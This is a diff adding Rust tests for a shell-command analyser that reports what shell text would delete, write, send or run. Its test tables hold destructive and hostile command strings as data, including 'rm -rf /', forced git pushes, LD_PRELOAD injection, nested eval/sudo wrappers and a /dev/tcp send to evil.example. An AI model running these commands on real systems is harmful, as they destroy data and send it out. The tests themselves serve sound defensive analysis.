@@ -1,0 +1,421 @@
+//! Texts and what they would do, in the notation of clauses.
+
+use super::evaluate;
+use crate::effects::Evaluation;
+use crate::model::clause::Owner;
+use crate::model::effect::Certainty;
+use crate::model::facts::{
+    Fact, Facts, FileKind, Files, Git, Head, Origins, Ownership, PathState, Repository, Unsaved,
+    Why,
+};
+use crate::model::pattern::{Pattern, Relation};
+
+/// A work tree `/r` on branch `topic`, in the home `/home/u`.
+struct World {
+    contents: &'static [(&'static str, &'static str)],
+}
+
+const WORLD: World = World {
+    contents: &[
+        ("/r/ok.sh", "#!/bin/bash\nrm -rf build\n"),
+        ("/r/args.sh", "rm \"$1\"\n"),
+        ("/r/lib.sh", "OUT=dist\nclean() { rm -rf \"$OUT\"; }\n"),
+        ("/r/tool.py", "print(1)\n"),
+        ("/r/src/a.rs", ""),
+        ("/r/src/b.rs", ""),
+        ("/r/.git/config", ""),
+        ("/r/lnk", ""),
+    ],
+};
+
+impl Files for World {
+    fn kind(&self, path: &[u8]) -> Fact<FileKind> {
+        let folder = [path, b"/"].concat();
+        let text = |name: &str| name.as_bytes().to_vec();
+        Fact::Known(if self.contents.iter().any(|(name, _)| text(name) == path) {
+            FileKind::File
+        } else if self.contents.iter().any(|(name, _)| text(name).starts_with(&folder))
+            || path == b"/tmp"
+        {
+            FileKind::Folder
+        } else {
+            FileKind::Missing
+        })
+    }
+    fn real(&self, path: &[u8]) -> Fact<Vec<u8>> {
+        Fact::Known(path.to_vec())
+    }
+    fn entries(&self, folder: &[u8]) -> Fact<Vec<Vec<u8>>> {
+        let folder = [folder, b"/"].concat();
+        let mut names: Vec<Vec<u8>> = self
+            .contents
+            .iter()
+            .filter_map(|(name, _)| name.as_bytes().strip_prefix(folder.as_slice()))
+            .map(|rest| rest.split(|byte| *byte == b'/').next().unwrap().to_vec())
+            .collect();
+        names.sort();
+        names.dedup();
+        if names.is_empty() { Fact::Unknown(Why::NotAsked) } else { Fact::Known(names) }
+    }
+    fn content(&self, path: &[u8]) -> Fact<Vec<u8>> {
+        let found = self.contents.iter().find(|(name, _)| name.as_bytes() == path);
+        match found {
+            Some((_, content)) => Fact::Known(content.as_bytes().to_vec()),
+            None => Fact::Unknown(Why::Unreadable),
+        }
+    }
+    fn home(&self) -> Fact<Vec<u8>> {
+        Fact::Known(b"/home/u".to_vec())
+    }
+}
+
+impl Git for World {
+    fn repository(&self, folder: &[u8]) -> Fact<Option<Repository>> {
+        Fact::Known((folder == b"/r" || folder.starts_with(b"/r/")).then(|| Repository {
+            root: b"/r".to_vec(),
+            git_dir: b"/r/.git".to_vec(),
+            common_dir: b"/r/.git".to_vec(),
+            bare: false,
+        }))
+    }
+    fn head(&self, _: &Repository) -> Fact<Head> {
+        Fact::Known(Head::Branch(b"topic".to_vec()))
+    }
+    fn config(&self, _: &Repository, _: &str) -> Fact<Vec<Vec<u8>>> {
+        Fact::Known(Vec::new())
+    }
+    fn config_below(&self, _: &Repository, _: &str) -> Fact<Vec<(String, Vec<u8>)>> {
+        Fact::Known(Vec::new())
+    }
+    fn ref_id(&self, _: &Repository, _: &[u8]) -> Fact<Option<String>> {
+        Fact::Unknown(Why::NotAsked)
+    }
+    fn refs(&self, _: &Repository, _: &[u8]) -> Fact<Vec<Vec<u8>>> {
+        Fact::Unknown(Why::NotAsked)
+    }
+    fn commit_id(&self, _: &Repository, _: &[u8]) -> Fact<Option<String>> {
+        Fact::Unknown(Why::NotAsked)
+    }
+    fn contains(&self, _: &Repository, _: &str, _: &str) -> Fact<bool> {
+        Fact::Unknown(Why::NotAsked)
+    }
+    fn state(&self, _: &Repository, _: &[u8]) -> Fact<PathState> {
+        Fact::Unknown(Why::NotAsked)
+    }
+    fn unsaved(&self, _: &Repository, _: &Pattern, _: bool) -> Fact<Vec<Unsaved>> {
+        Fact::Unknown(Why::NotAsked)
+    }
+    fn ignored(&self, _: &Repository, _: &Pattern) -> Fact<Vec<Vec<u8>>> {
+        Fact::Unknown(Why::NotAsked)
+    }
+    fn default_branch(&self, _: &Repository) -> Fact<Option<Vec<u8>>> {
+        Fact::Known(Some(b"main".to_vec()))
+    }
+}
+
+impl Ownership for World {
+    fn owner(&self, _: &[u8]) -> Fact<Owner> {
+        Fact::Unknown(Why::NotAsked)
+    }
+    fn written(&self, _: &[u8]) -> Fact<bool> {
+        Fact::Unknown(Why::NotAsked)
+    }
+}
+
+impl Origins for World {
+    fn first_seen(&self, _: &[u8]) -> Fact<Option<String>> {
+        Fact::Unknown(Why::NotAsked)
+    }
+}
+
+impl Facts for World {
+    fn files(&self) -> &dyn Files {
+        self
+    }
+    fn git(&self) -> &dyn Git {
+        self
+    }
+    fn ownership(&self) -> &dyn Ownership {
+        self
+    }
+    fn origins(&self) -> &dyn Origins {
+        self
+    }
+}
+
+fn of(text: &str) -> Evaluation {
+    evaluate(text.as_bytes(), &Pattern::text("/r"), &WORLD)
+}
+
+/// Effects one by one, `?` before what may happen, `??` before what is unknown, then what could not
+/// be read behind `!`.
+fn shown(text: &str) -> String {
+    let evaluation = of(text);
+    let effects = evaluation.effects.iter().map(|effect| {
+        let sign = match effect.certainty {
+            Certainty::Did | Certainty::Will => "",
+            Certainty::May => "?",
+            Certainty::Unknown => "??",
+        };
+        format!("{sign}{}", effect.clause)
+    });
+    let unread = evaluation.unread.iter().map(|unread| format!("!{}", unread.cause));
+    effects.chain(unread).collect::<Vec<_>>().join("; ")
+}
+
+fn check(table: &[(&str, &str)]) {
+    let wrong: Vec<String> = table
+        .iter()
+        .filter(|(text, wanted)| shown(text) != *wanted)
+        .map(|(text, wanted)| format!("\n{text}\n  wanted {wanted}\n  found  {}", shown(text)))
+        .collect();
+    assert!(wrong.is_empty(), "{}", wrong.concat());
+}
+
+#[test]
+fn words_come_out_as_the_shell_makes_them() {
+    check(&[
+        ("rm a", "delete path:/r/a"),
+        ("rm 'a b' \"c\"d", "delete path:/r/a b; delete path:/r/cd"),
+        ("r''m a", "delete path:/r/a"),
+        (r"\rm a", "delete path:/r/a"),
+        ("command rm a", "delete path:/r/a"),
+        ("/bin/rm a", "delete path:/r/a"),
+        ("{rm,-rf,x}", "delete path:/r/x/**"),
+        ("x=rm; $x a", "delete path:/r/a"),
+        ("x='rm a b'; $x", "delete path:/r/a; delete path:/r/b"),
+        ("rm -rf ~/x", "delete path:/home/u/x/**"),
+        ("rm ../x /a/./b", "delete path:/x; delete path:/a/b"),
+        ("rm f{1..3}", "delete path:/r/f1; delete path:/r/f2; delete path:/r/f3"),
+        (
+            "rm {a,b}/{c,d}",
+            "delete path:/r/a/c; delete path:/r/a/d; delete path:/r/b/c; delete path:/r/b/d",
+        ),
+        ("rm src/*.rs", "delete path:/r/src/a.rs; delete path:/r/src/b.rs"),
+        ("rm out/*.o", "delete path:/r/out/*.o"),
+        ("rm 'src/*.rs'", r"delete path:/r/src/\*.rs"),
+        ("rm $'\\x61'", "delete path:/r/a"),
+        ("cat <<EOF\nrm -rf /\nEOF", ""),
+        ("echo 'rm -rf /'", ""),
+    ]);
+}
+
+#[test]
+fn variables_are_sets_of_values_or_holes() {
+    check(&[
+        ("X=a; rm $X", "delete path:/r/a"),
+        ("rm -rf \"$X\"/y", "delete path:${X:-}/y/**"),
+        ("rm -rf \"${X:-build}\"/y", "?delete path:${X}/y/**; ?delete path:/r/build/y/**"),
+        ("rm -rf \"${X:?}\"/y", "delete path:${X}/y/**"),
+        (
+            "X=a/b.c; rm ${X%.c} ${X##*/} ${X/b/d}",
+            "delete path:/r/a/b; delete path:/r/b.c; delete path:/r/a/d.c",
+        ),
+        ("rm -rf \"${TMPDIR:-/tmp}/x\"", "delete path:/tmp/x/**"),
+        (
+            "if c; then X=a; else X=b; fi; rm $X",
+            "??run program:c; ?delete path:/r/b; ?delete path:/r/a",
+        ),
+        ("rm $(echo a)", "delete path:/r/a"),
+        ("rm \"$(pwd)/a\"", "delete path:/r/a"),
+        ("set -- a b; rm \"$@\"", "delete path:/r/a; delete path:/r/b"),
+        ("a=(x y); rm \"${a[@]}\"", "delete path:/r/x; delete path:/r/y"),
+        ("rm /$1", "delete path:/"),
+        ("IFS=:; x=a:b; rm $x", "delete path:/r/a; delete path:/r/b"),
+        ("sh -c 'rm \"$1\"' name a", "delete path:/r/a"),
+        ("sh -c 'rm \"/$1\"'", "delete path:/${argument 1:-}"),
+    ]);
+}
+
+#[test]
+fn redirections_are_effects() {
+    check(&[
+        ("echo a > f", "write path:/r/f; discard path:/r/f"),
+        ("echo a >> f", "write path:/r/f"),
+        ("rm a 2>/dev/null >&2", "delete path:/r/a"),
+        ("cat > f <<EOF\nx\nEOF", "write path:/r/f; discard path:/r/f"),
+        (": > a > b", "write path:/r/a; discard path:/r/a; write path:/r/b; discard path:/r/b"),
+        ("{ echo a; } &> f", "write path:/r/f; discard path:/r/f"),
+        ("echo x > /dev/tcp/evil.example/80", "send host:evil.example"),
+        ("read x < f", "read path:/r/f"),
+    ]);
+}
+
+#[test]
+fn the_folder_is_followed() {
+    check(&[
+        ("cd src && rm a", "delete path:/r/src/a"),
+        ("cd src; rm a", "delete path:/r/src/a"),
+        ("cd gone; rm a", "?delete path:/r/gone/a; ?delete path:/r/a"),
+        ("cd gone && rm a", "delete path:/r/gone/a"),
+        ("cd gone || exit 1; rm a", "delete path:/r/gone/a"),
+        ("set -e; cd gone; rm a", "delete path:/r/gone/a"),
+        ("(cd src && rm a); rm b", "delete path:/r/src/a; delete path:/r/b"),
+        ("pushd src; rm a; popd; rm b", "delete path:/r/src/a; delete path:/r/b"),
+        ("cd \"$D\" && rm a", "delete path:${D:-}/a"),
+        ("cd - && rm a", "delete path:${OLDPWD}/a"),
+        ("mkdir -p new; cd new; rm a", "write path:/r/new; delete path:/r/new/a"),
+        ("if cd gone; then :; fi; rm a", "?delete path:/r/gone/a; ?delete path:/r/a"),
+        ("set -e; if cd gone; then :; fi; rm a", "?delete path:/r/gone/a; ?delete path:/r/a"),
+    ]);
+}
+
+#[test]
+fn every_branch_counts() {
+    check(&[
+        ("false && rm a", "delete path:/r/a"),
+        ("true || rm a", "?delete path:/r/a"),
+        ("if false; then rm a; fi", "?delete path:/r/a"),
+        ("case $x in a) rm a;; *) rm b;; esac", "?delete path:/r/a; ?delete path:/r/b"),
+        ("while true; do rm a; done", "?delete path:/r/a"),
+        ("for f in a b; do rm $f; done", "delete path:/r/a; delete path:/r/b"),
+        ("for f in out/*; do rm $f; done", "?delete path:/r/out/*"),
+        ("f() { rm \"$1\"; }; f a", "delete path:/r/a"),
+        ("exit 0; rm a", "?delete path:/r/a"),
+        ("rm a & rm b", "delete path:/r/a; delete path:/r/b"),
+        ("trap 'rm -f \"$t\"' EXIT; t=a", "?delete path:/r/a"),
+        ("f() { f; }; f", "!commands that run commands, too deeply"),
+    ]);
+}
+
+#[test]
+fn text_that_is_run_is_read() {
+    check(&[
+        ("eval 'rm a'", "delete path:/r/a"),
+        ("eval \"$X\"", "??run program:eval; !text for eval: X"),
+        ("./ok.sh", "delete path:/r/build/**"),
+        ("source lib.sh; clean", "delete path:/r/dist/**"),
+        ("./args.sh a", "delete path:/r/a"),
+        (
+            "echo 'rm a' > x.sh; ./x.sh",
+            "write path:/r/x.sh; discard path:/r/x.sh; delete path:/r/a",
+        ),
+        ("./tool.py", "??run program:/r/tool.py"),
+        ("alias x='rm a'; x", "?delete path:/r/a; ??run program:x"),
+        ("$CMD a", "??run program:${CMD:-}; ??run program:a; !the name of a command is `${CMD:-}`"),
+        ("rm $(rm a)", "delete path:/r/a; delete path:${output of rm:-}/**"),
+        (
+            "if c; then echo 'rm a' > x.sh; fi; bash x.sh",
+            "??run program:c; ?write path:/r/x.sh; ?discard path:/r/x.sh; ?delete path:/r/a; \
+             ??run program:/r/x.sh",
+        ),
+        (
+            "echo rm > x.sh; echo 'rm a' >> x.sh; bash x.sh",
+            "write path:/r/x.sh; discard path:/r/x.sh; delete path:/r/a",
+        ),
+        ("bash gone.sh", "??run program:/r/gone.sh"),
+        ("BASH_ENV=ok.sh bash -c :", "delete path:/r/build/**"),
+        ("LD_PRELOAD=./x.so rm a", "??run program:./x.so; delete path:/r/a; !code in LD_PRELOAD"),
+        ("PATH=.:$PATH ok.sh", "delete path:/r/build/**"),
+        ("rm 'a", "??run program:sh; !unbalanced quote"),
+    ]);
+}
+
+/// Simple commands of which some effect is known.
+const COMMANDS: &[&str] = &[
+    "rm a",
+    "rm -rf \"$X\"/y",
+    "rm -rf src/*",
+    "cp a b",
+    "mv a ../b",
+    "git push origin topic",
+    "git push --force origin HEAD:main",
+    "git reset --hard",
+    "git commit --no-verify -m 'it'\\''s'",
+    "find . -name '*.o' -delete",
+    "unknown-program a",
+    "$CMD a",
+];
+
+/// Ways to run a command that is given as text.
+const WRAPPERS: &[fn(&str) -> String] = &[
+    |text| format!("( {text}\n)"),
+    |text| format!("{{ {text}\n}}"),
+    |text| format!("true && {{ {text}\n}}"),
+    |text| format!("false || {{ {text}\n}}"),
+    |text| format!("if true; then {text}\nfi"),
+    |text| format!("while true; do {text}\ndone"),
+    |text| format!("for i in 1 2; do {text}\ndone"),
+    |text| format!("case a in b) {text}\n;; esac"),
+    |text| format!("f() {{ {text}\n}}; f"),
+    |text| format!("{{ {text}\n}} | cat"),
+    |text| format!("{{ {text}\n}} &"),
+    |text| format!("! {{ {text}\n}}"),
+    |text| format!("x=$({text}\n)"),
+    |text| format!("echo \"$({text}\n)\""),
+    |text| format!("cat <({text}\n)"),
+    |text| format!("trap {} EXIT", quoted(text)),
+    |text| format!("eval {}", quoted(text)),
+    |text| format!("sh -c {}", quoted(text)),
+    |text| format!("env A=1 bash -c {}", quoted(text)),
+    |text| format!("sudo sh -c {}", quoted(text)),
+    |text| format!("exec sh -c {}", quoted(text)),
+    |text| format!("bash <<'END{0}'\n{text}\nEND{0}\n", text.len()),
+    |text| format!("printf '%s' {} | sh", quoted(text)),
+    |text| format!("echo {} > s.sh; bash s.sh", quoted(text)),
+    |text| format!("exit 1; {text}"),
+];
+
+/// Ways to run a simple command by putting words before it.
+const PREFIXES: &[&str] =
+    &["env", "env A=1", "command", "exec", "sudo", "time", "A=1", "builtin command"];
+
+fn quoted(text: &str) -> String {
+    format!("'{}'", text.replace('\'', r"'\''"))
+}
+
+/// Asserts that what the bare text does, the wrapped one does too.
+fn never_milder(bare: &str, wrapped: &str) {
+    let (bare_found, found) = (of(bare), of(wrapped));
+    for effect in &bare_found.effects {
+        let kept = found.effects.iter().any(|other| {
+            other.clause == effect.clause
+                || other.clause.relation(&effect.clause) == Relation::Covers
+        });
+        assert!(kept, "`{}` of `{bare}` is lost in\n{wrapped}\n{}", effect.clause, shown(wrapped));
+    }
+    for unread in &bare_found.unread {
+        assert!(found.unread.contains(unread), "`{}` is lost in\n{wrapped}", unread.cause);
+    }
+}
+
+#[test]
+fn a_wrapped_command_is_never_milder() {
+    for command in COMMANDS {
+        for prefix in PREFIXES {
+            never_milder(command, &format!("{prefix} {command}"));
+        }
+        for inner in WRAPPERS {
+            let once = inner(command);
+            never_milder(command, &once);
+            for outer in WRAPPERS {
+                never_milder(command, &outer(&once));
+            }
+        }
+    }
+}
+
+#[test]
+fn effects_point_at_their_command() {
+    let text = "echo a; rm b && sh -c 'rm c'";
+    let found: Vec<_> = of(text)
+        .effects
+        .iter()
+        .map(|effect| String::from_utf8_lossy(effect.span.of(text.as_bytes())).into_owned())
+        .collect();
+    assert_eq!(found, ["rm b", "sh -c 'rm c'"]);
+}
+
+#[test]
+fn bounds_are_told() {
+    for text in [
+        "true; ".repeat(20_000),
+        "rm a; ".repeat(12_000),
+        "f() { f; f; }; f".to_owned(),
+        "eval ".repeat(300) + "rm a",
+    ] {
+        let found = of(&text);
+        let shown = text.get(..20).unwrap_or(&text);
+        assert!(found.unread.iter().any(|unread| unread.bound), "{shown}");
+    }
+}
